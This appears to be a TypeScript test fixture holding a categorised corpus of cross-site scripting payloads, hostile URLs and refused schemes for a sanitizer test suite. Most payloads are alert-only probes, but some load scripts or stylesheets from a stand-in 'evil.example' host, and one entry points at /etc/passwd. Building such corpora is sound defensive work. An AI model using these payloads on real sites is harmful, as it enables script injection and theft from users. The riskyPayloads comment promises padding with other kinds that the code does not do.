/**
 * A corpus of hostile input for the XSS suite (app/xss-*.test.ts and e2e/hostile-input-stays-inert.spec.ts).
 *
 * Every payload that would run calls alert(…) or sets window.__xss, so a browser test can catch it either by the
 * dialog it opens or by the global it sets. Grouped by kind; `risky` marks the ones the browser suite renders (the
 * ones most likely to get through a sanitizer or an escaping mistake).
 */

export type PayloadKind =
  | "script"
  | "event-handler"
  | "url-scheme"
  | "encoded-url"
  | "svg"
  | "mathml"
  | "broken-up"
  | "embedding"
  | "css"
  | "template"
  | "json-ld"
  | "markdown"
  | "unicode";

export type Payload = { kind: PayloadKind; text: string; risky?: boolean };

const p = (kind: PayloadKind, text: string, risky = false): Payload => (risky ? { kind, text, risky } : { kind, text });

export const xssPayloads: readonly Payload[] = [
  // Classic script tags.
  p("script", "<script>alert(1)</script>", true),
  p("script", "<SCRIPT>window.__xss=1</SCRIPT>"),
  p("script", "<script src=https://evil.example/x.js></script>"),
  p("script", "<script>/*</script><script>*/alert(1)</script>"),
  p("script", "<script type=module>window.__xss=1</script>"),
  p("script", '"><script>alert(1)</script>', true),
  p("script", "'><script>alert(1)</script>"),
  p("script", "</title><script>alert(1)</script>"),
  p("script", "</textarea><script>alert(1)</script>", true),
  p("script", "<script\n>alert(1)</script\n>"),

  // Event handler attributes.
  p("event-handler", "<img src=x onerror=alert(1)>", true),
  p("event-handler", '<img src="x" onerror="window.__xss=1">'),
  p("event-handler", "<IMG SRC=x OnErRoR=alert(1)>"),
  p("event-handler", "<img src=x onerror=\"&#97;lert(1)\">"),
  p("event-handler", '<img/src="x"/onerror=alert(1)>'),
  p("event-handler", "<img src=x:alert(1) onerror=eval(src.slice(2))>"),
  p("event-handler", "<body onload=alert(1)>"),
  p("event-handler", "<details open ontoggle=alert(1)>", true),
  p("event-handler", "<video><source onerror=alert(1)></video>"),
  p("event-handler", "<audio src=x onerror=alert(1)>"),
  p("event-handler", "<input autofocus onfocus=alert(1)>"),
  p("event-handler", "<select autofocus onfocus=alert(1)>"),
  p("event-handler", "<textarea autofocus onfocus=window.__xss=1>"),
  p("event-handler", "<marquee onstart=alert(1)>x</marquee>"),
  p("event-handler", '<div onmouseover="alert(1)" style="position:fixed;inset:0">x</div>'),
  p("event-handler", "<p onclick=alert(1)>click</p>"),
  p("event-handler", "<a href=/ onclick=alert(1)>x</a>"),
  p("event-handler", "<img src=x onerror\n=\nalert(1)>"),
  p("event-handler", '" onmouseover="alert(1)', true),
  p("event-handler", "' onfocus='alert(1)' autofocus='"),
  p("event-handler", "<x onpointerenter=alert(1)>hover</x>"),
  p("event-handler", "<img src=x onerror=alert`1`>"),

  // javascript:, vbscript: and data: URLs, in every case.
  p("url-scheme", "javascript:alert(1)", true),
  p("url-scheme", "JaVaScRiPt:alert(1)"),
  p("url-scheme", "  javascript:window.__xss=1"),
  p("url-scheme", "vbscript:msgbox(1)"),
  p("url-scheme", "data:text/html,<script>alert(1)</script>"),
  p("url-scheme", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
  p("url-scheme", '<a href="javascript:alert(1)">x</a>', true),
  p("url-scheme", '<a href="JAVASCRIPT:alert(1)">x</a>'),
  p("url-scheme", '<a href="vbscript:msgbox(1)">x</a>'),
  p("url-scheme", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'),
  p("url-scheme", '<img src="javascript:alert(1)">'),
  p("url-scheme", '<img srcset="javascript:alert(1) 1x, /a.png 2x">'),
  p("url-scheme", '<form action="javascript:alert(1)"><button>go</button></form>'),
  p("url-scheme", '<button formaction="javascript:alert(1)">go</button>'),
  p("url-scheme", "https://example.com/?q=<script>alert(1)</script>"),

  // Entity-, whitespace- and control-character-encoded schemes.
  p("encoded-url", '<a href="jav&#x09;ascript:alert(1)">x</a>', true),
  p("encoded-url", '<a href="&#106;avascript:alert(1)">x</a>'),
  p("encoded-url", '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>'),
  p("encoded-url", '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>'),
  p("encoded-url", '<a href="java\nscript:alert(1)">x</a>'),
  p("encoded-url", '<a href="java\u0000script:alert(1)">x</a>'),
  p("encoded-url", '<a href=" \u0001javascript:alert(1)">x</a>'),
  p("encoded-url", '<a href="javascript&colon;alert(1)">x</a>'),
  p("encoded-url", '<a href="javas&#99;ript:alert(1)">x</a>'),
  p("encoded-url", "jav&#x09;ascript:alert(1)"),
  p("encoded-url", "&#106;avascript:alert(1)"),
  p("encoded-url", "java\tscript:alert(1)"),
  p("encoded-url", "%6A%61%76%61%73%63%72%69%70%74:alert(1)"),
  p("encoded-url", "&lt;script&gt;alert(1)&lt;/script&gt;"),
  p("encoded-url", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e"),
  p("encoded-url", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),

  // SVG.
  p("svg", "<svg onload=alert(1)>", true),
  p("svg", "<svg><script>alert(1)</script></svg>"),
  p("svg", '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>', true),
  p("svg", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
  p("svg", '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">x</text></a></svg>'),
  p("svg", "<svg><set attributeName=onmouseover to=alert(1)>"),
  p("svg", "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>"),
  p("svg", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='alert(1)'/></svg>#x\"/></svg>"),
  p("svg", "<svg><style><img src=x onerror=alert(1)></style></svg>"),

  // MathML and mutation XSS.
  p("mathml", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>", true),
  p("mathml", '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'),
  p("mathml", "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>"),
  p("mathml", "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><textarea><a title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>"),
  p("mathml", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>"),
  p("mathml", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
  p("mathml", "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">"),
  p("mathml", "<table><caption><svg><desc><mtext><style><img src=x onerror=alert(1)>"),

  // Broken-up, nested and unclosed tags, comments.
  p("broken-up", "<scr<script>ipt>alert(1)</scr</script>ipt>", true),
  p("broken-up", "<<script>alert(1)//<</script>"),
  p("broken-up", "<script>alert(1)"),
  p("broken-up", "<img src=x onerror=alert(1)//"),
  p("broken-up", "<!--<script>-->alert(1)<!--</script>-->"),
  p("broken-up", "<!--><img src=x onerror=alert(1)>-->"),
  p("broken-up", "<![CDATA[<script>alert(1)</script>]]>"),
  p("broken-up", "<a href=\"x\" <img src=x onerror=alert(1)>>x</a>"),
  p("broken-up", "<iframe/src=\"javascript:alert(1)\""),
  p("broken-up", "<</p>img src=x onerror=alert(1)>"),
  p("broken-up", "<img\u0000src=x onerror=alert(1)>"),
  p("broken-up", "<?xml version=\"1.0\"?><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>"),

  // Embedding, navigation and document-level elements.
  p("embedding", '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>', true),
  p("embedding", "<iframe src=javascript:alert(1)></iframe>"),
  p("embedding", '<object data="javascript:alert(1)"></object>'),
  p("embedding", '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>'),
  p("embedding", '<embed src="javascript:alert(1)">'),
  p("embedding", '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'),
  p("embedding", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
  p("embedding", '<base href="javascript:alert(1)//">'),
  p("embedding", '<link rel="import" href="data:text/html,<script>alert(1)</script>">'),
  p("embedding", '<isindex type=image src=1 onerror=alert(1)>'),
  p("embedding", "<frameset onload=alert(1)>"),
  p("embedding", "<portal src=javascript:alert(1)></portal>"),

  // CSS.
  p("css", "<style>@import 'https://evil.example/x.css';</style>"),
  p("css", '<div style="background:url(javascript:alert(1))">x</div>'),
  p("css", '<div style="width:expression(alert(1))">x</div>'),
  p("css", "<style>*{background:url(\"javascript:alert(1)\")}</style>"),
  p("css", '<p style="behavior:url(x.htc);-moz-binding:url(https://evil.example/x.xml#xss)">x</p>'),

  // Template injection.
  p("template", "{{constructor.constructor('alert(1)')()}}"),
  p("template", "{{$on.constructor('window.__xss=1')()}}"),
  p("template", "${alert(1)}"),
  p("template", "<%= alert(1) %>"),
  p("template", "#{alert(1)}"),

  // Breaking out of JSON-LD and other script contexts.
  p("json-ld", "</script><script>alert(1)</script>", true),
  p("json-ld", "</SCRIPT ><script>window.__xss=1</script>"),
  p("json-ld", '"}]}</script><img src=x onerror=alert(1)>'),
  p("json-ld", "<!--<script>alert(1)//"),
  p("json-ld", "\u2028\u2029</script><script>alert(1)</script>"),
  p("json-ld", "]]></content><script>alert(1)</script>"),

  // Markdown links, images and raw HTML.
  p("markdown", "[x](javascript:alert(1))", true),
  p("markdown", "[x](JaVaScRiPt:alert(1))"),
  p("markdown", "[x](  javascript:alert(1))"),
  p("markdown", "[x](javascript&#58;alert(1))", true),
  p("markdown", "[x](javascript&colon;alert(1))"),
  p("markdown", "[x](&#x6A;avascript:alert(1))"),
  p("markdown", "[x](<javascript:alert(1)>)"),
  p("markdown", "[x](java\\script:alert(1))"),
  p("markdown", "![x](javascript:alert(1))"),
  p("markdown", '![x" onerror="alert(1)](/a.png)', true),
  p("markdown", '![x](/a.png "\\" onerror=\\"alert(1)")'),
  p("markdown", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
  p("markdown", "[x][1]\n\n[1]: javascript:alert(1)", true),
  p("markdown", "[x][1]\n\n[1]: <javascript:alert(1)> \"t\""),
  p("markdown", "<javascript:alert(1)>"),
  p("markdown", "<vbscript:msgbox(1)>"),
  p("markdown", '[x](/a "\\" onmouseover=alert(1)")'),
  p("markdown", "[x](https://example.com \"<img src=x onerror=alert(1)>\")"),
  p("markdown", "<div>\n\n[x](javascript:alert(1))\n\n</div>"),
  p("markdown", '<div markdown="1">\n<img src=x onerror=alert(1)>\n</div>'),
  p("markdown", "```\n</code></pre><script>alert(1)</script>\n```"),
  p("markdown", "`<img src=x onerror=alert(1)>`"),
  p("markdown", "[<img src=x onerror=alert(1)>](https://example.com)"),
  p("markdown", "[x](https://example.com/\"onmouseover=\"alert(1))"),
  p("markdown", "| a |\n| - |\n| <img src=x onerror=alert(1)> |"),
  p("markdown", "> <script>alert(1)</script>"),
  p("markdown", "- [x](javascript:alert(1))\n- ![y](x \"onerror=alert(1)\")"),
  p("markdown", "[x](//evil.example/%0Ajavascript:alert(1))"),

  // Unicode, right-to-left, null bytes and other control characters.
  p("unicode", "\u202e<script>alert(1)</script>\u202c", true),
  p("unicode", "<scr\u0000ipt>alert(1)</scr\u0000ipt>"),
  p("unicode", "<img src=x onerror=alert(1)\u0000>"),
  p("unicode", "\u0000<script>alert(1)</script>"),
  p("unicode", "<\u0000script>alert(1)</script>"),
  p("unicode", "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E"),
  p("unicode", "<img src=x onerror=\u0061lert(1)\u200b>"),
  p("unicode", "\u0007\u0008\u001b[31m<script>alert(1)</script>"),
  p("unicode", "\uFEFF<svg onload=alert(1)>"),
  p("unicode", "<a href=\"\u2028javascript:alert(1)\">x</a>"),
  p("unicode", "\u00ABscript\u00BBalert(1)\u00AB/script\u00BB"),
  p("unicode", "<img src=x\u000Conerror=alert(1)>"),
];

/** Valid http(s) addresses with hostile query strings and fragments, for the source link. */
export const hostileHttpUrls: readonly string[] = [
  "https://example.com/?q=<script>alert(1)</script>",
  "https://example.com/?q=\"><img src=x onerror=alert(1)>",
  "https://example.com/#<svg onload=alert(1)>",
  "http://example.com/a?b=javascript:alert(1)",
  "https://example.com/?'onmouseover='alert(1)",
  "https://example.com/?q=%3Cscript%3Ealert(1)%3C/script%3E",
  "HTTPS://EXAMPLE.COM/?x=</script><script>alert(1)</script>",
  "https://example.com/path\"onerror=\"alert(1)",
  "https://user:pass@example.com/?q={{constructor.constructor('alert(1)')()}}",
  "https://example.com/?q=]]></content:encoded><script>alert(1)</script>",
];

/** Addresses the source link must refuse: anything not http or https, however it is written. */
export const refusedUrls: readonly string[] = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  " javascript:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  "vbscript:msgbox(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "&#106;avascript:alert(1)",
  "//evil.example/x",
  "/relative/path",
  "ftp://example.com/x",
  "file:///etc/passwd",
  "https:",
  "http://",
  "mailto:a@example.com",
];

/** Slugs that are valid yet spell out attacks: stored as they are, and harmless in a path. */
export const weirdValidSlugs: readonly string[] = ["script-alert-1", "javascript-alert-1", "img-src-x-onerror-alert-1", "svg-onload", "x-3cscript-3e"];

/** The payloads the browser suite renders: the riskiest first, then others of other kinds, `count` in all. */
export function riskyPayloads(count = 10): Payload[] {
  const risky = xssPayloads.filter((payload) => payload.risky);
  return risky.slice(0, count);
}
